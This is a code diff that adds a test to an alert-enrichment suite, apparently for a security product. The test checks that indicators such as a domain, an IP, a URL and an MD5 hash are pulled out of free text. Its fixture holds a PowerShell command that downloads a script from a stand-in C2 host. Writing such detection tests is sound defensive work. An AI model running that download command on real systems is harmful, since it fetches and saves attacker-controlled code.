@@ -105,6 +105,23 @@ describeEachDatabase('threat-intel enrichment of alerts', (ctx) => {
     assert.equal(ecs.risk_score, 75, 'ThreatFox confidence_level');
   });
 
+  test('indicators inside longer text: an address, a URL with its host and a hash in a command line or message', async () => {
+    const alert = await alertOn({
+      CommandLine: 'powershell -nop -c "iwr http://stix-c2.example/gate.php -OutFile x.ps1; ping 192.0.2.10."',
+      Message: 'Dropped file with MD5 44D88612FEA8A8F36DE82E1278ABB02F (quarantined)',
+    });
+    const found = alert.enrichment.indicators.map((i: { type: string; value: string; matched_field: string }) => `${i.type} ${i.value} ${i.matched_field}`).sort();
+    assert.deepEqual(found, [
+      'domain stix-c2.example CommandLine',
+      'ip 192.0.2.10 CommandLine',
+      'md5 44d88612fea8a8f36de82e1278abb02f Message',
+      'url http://stix-c2.example/gate.php CommandLine',
+    ]);
+    // A file name in text is not a domain; a longer run of hex digits is not a hash.
+    const clean = await alertOn({ CommandLine: 'copy invoice.zip C:\\temp 44D88612FEA8A8F36DE82E1278ABB02F00 192.0.2.10.5' });
+    assert.equal(clean.enrichment, null, JSON.stringify(clean.enrichment));
+  });
+
   test('several matches: every indicator is listed and the highest score decides the level', async () => {
     const alert = await alertOn({ source: { ip: '192.0.2.10' }, destination: { ip: '203.0.113.99', port: 4443 } });
     const listed = alert.enrichment.indicators.map((i: { feed: string; value: string; score: number }) => `${i.feed} ${i.value} ${i.score}`).sort();
